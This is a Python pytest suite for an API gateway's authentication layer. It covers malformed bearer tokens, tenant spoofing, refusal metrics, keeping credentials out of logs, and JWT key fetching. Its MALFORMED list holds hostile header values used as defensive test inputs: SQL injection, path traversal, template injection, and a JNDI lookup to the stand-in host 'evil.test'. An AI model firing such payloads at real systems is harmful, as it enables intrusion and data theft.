"""What a client must send, what it is told when it does not, and what nobody is ever told."""

import logging
import re

import pytest

from steelyard.contract.errors import RetryLater
from steelyard.gateway.auth.config import AuthConfig
from steelyard.gateway.config import GatewayConfig

from ..conftest import OpenDoor
from ..doors import Door
from ..wire import Reply, connect, get, post, read_reply, request
from .issuer import Issuer, Provider, jwt_config, provider
from .keyring import Keyring, bearer

CHAT = "/v1/chat/completions"
BODY = {"model": "fake", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 3}

MALFORMED = (
    "Bearer",
    "Bearer ",
    "Basic dXNlcjpwYXNz",
    "bearer: x",
    "Token {key}",
    "{key}",
    "Bearer {key} {key}",
    "Bearer {key},x",
    "Bearer\t{key}",
    'Bearer "{key}"',
    "Bearer ' OR '1'='1",
    "Bearer 1; DROP TABLE keys--",
    "Bearer x' UNION SELECT sha256 FROM keys --",
    "Bearer admin'/*",
    "Bearer %27%20OR%201=1",
    "Bearer ${{jndi:ldap://evil.test/a}}",
    "Bearer {{{{7*7}}}}",
    "Bearer ../../etc/keys",
    "Bearer \u00fc",
    "Bearer " + "x" * 8000,
)


@pytest.fixture
def door(keyring: Keyring, make_door: OpenDoor) -> Door:
    return make_door(keyring.gateway())


def ask(door: Door, *fields: str) -> Reply:
    return post(door, CHAT, BODY, *fields)


@pytest.mark.parametrize("field", MALFORMED)
def test_anything_else_than_a_known_key_is_refused(
    door: Door, keyring: Keyring, field: str
) -> None:
    reply = ask(door, "authorization: " + field.format(key=keyring.infer))
    assert reply.status == 401
    assert reply.error["code"] == "invalid_api_key"
    assert reply.error["type"] == "authentication_error"
    assert reply.headers["www-authenticate"].endswith('error="invalid_token"')
    assert keyring.infer not in reply.body.decode()


@pytest.mark.parametrize("credentials", ["x\x7f", "x\x00", "x" * 20_000])
def test_what_is_no_header_field_is_refused_before_it_is_looked_at(
    door: Door, credentials: str
) -> None:
    assert ask(door, bearer(credentials)).status in (400, 431)


def test_the_scheme_may_be_written_small(door: Door, keyring: Keyring) -> None:
    assert ask(door, f"AUTHORIZATION: bearer  {keyring.infer}").status == 200


def test_two_sets_of_credentials_are_refused(door: Door, keyring: Keyring) -> None:
    with connect(door) as sock:
        lines = (bearer(keyring.infer), "x-pad: 1\r\n" + bearer(keyring.infer))
        sock.sendall(request("/v1/models", b"", *lines, method="GET"))
        assert read_reply(sock).status == 401


def test_nobody_names_their_own_tenant(door: Door, keyring: Keyring) -> None:
    fields = [f"{name}: team-z" for name in ("x-tenant", "x-tenant-id", "tenant", "user", "x-user")]
    reply = post(door, CHAT, BODY | {"user": "team-z"}, bearer(keyring.infer), *fields)
    assert reply.status == 200
    name = "steelyard_tenant_requests_ended_total"
    assert door.metric(f'{name}{{outcome="finished",tenant="team-a"}}') == 1
    assert door.metric(f'{name}{{outcome="finished",tenant="team-z"}}') == 0


def test_refusals_are_counted_by_reason(door: Door, keyring: Keyring) -> None:
    for fields in ((), ("authorization: Basic x",), (bearer("sk-unknown"),)):
        assert ask(door, *fields).status == 401
    assert get(door, "/metrics", bearer(keyring.infer)).status == 403
    for reason in ("missing", "malformed", "key", "grant"):
        assert door.metric(f'steelyard_auth_refusals_total{{reason="{reason}"}}') == 1


def test_a_refused_client_can_go_on_with_the_same_connection(door: Door, keyring: Keyring) -> None:
    with connect(door) as sock:
        sock.sendall(request("/v1/models", b"", method="GET"))
        assert read_reply(sock).status == 401
        sock.sendall(request("/v1/models", b"", bearer(keyring.infer), method="GET"))
        assert read_reply(sock).status == 200


def test_logs_and_answers_hold_no_credentials(
    keyring: Keyring, make_door: OpenDoor, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    with provider() as idp:
        tokens = make_door(token_gateway(idp))
        keys = make_door(keyring.gateway())
        good, forged = Issuer().token(**fresh()), Issuer(3).token(**fresh())
        texts = [ask(tokens, bearer(t)).body.decode() for t in (good, forged, good + "x")]
        unknown = "sk-" + "0" * 12 + "-" + "A" * 43
        texts += [ask(keys, bearer(key)).body.decode() for key in (keyring.infer, unknown)]
    texts.append(caplog.text)
    for secret in (good, forged, keyring.infer, unknown):
        for part in re.findall(r"[A-Za-z0-9_-]{30,}", secret):
            assert not any(part in text for text in texts)


def fresh() -> dict[str, float]:
    import time

    return {"iat": time.time(), "exp": time.time() + 60}


def token_gateway(idp: Provider) -> GatewayConfig:
    return GatewayConfig(port=0, auth=AuthConfig(mode="jwt", jwt=jwt_config(jwks_url=idp.url)))


def test_tokens_are_verified_with_keys_from_the_provider(make_door: OpenDoor) -> None:
    with provider() as idp:
        door = make_door(token_gateway(idp))
        for kind in ("RSA", "EC", "OKP"):
            assert ask(door, bearer(Issuer().token(kind, **fresh()))).status == 200
        assert ask(door, bearer(Issuer(1).token("EC", **fresh()))).status == 401
        assert ask(door, bearer(Issuer().token("EC", **fresh(), scope="other"))).status == 403
        assert door.metric('steelyard_auth_key_fetches_total{outcome="ok"}') == 1
    name = "steelyard_tenant_requests_ended_total"
    assert door.metric(f'{name}{{outcome="finished",tenant="team-a"}}') == 3


def test_without_keys_of_the_provider_clients_are_told_to_come_back(make_door: OpenDoor) -> None:
    with provider() as idp:
        idp.status = 500
        door = make_door(token_gateway(idp))
        reply = ask(door, bearer(Issuer().token(**fresh())))
    assert reply.status == 503
    assert reply.error["code"] == RetryLater.code
    assert reply.headers["retry-after"] == "5"
    assert get(door, "/health").status == 200
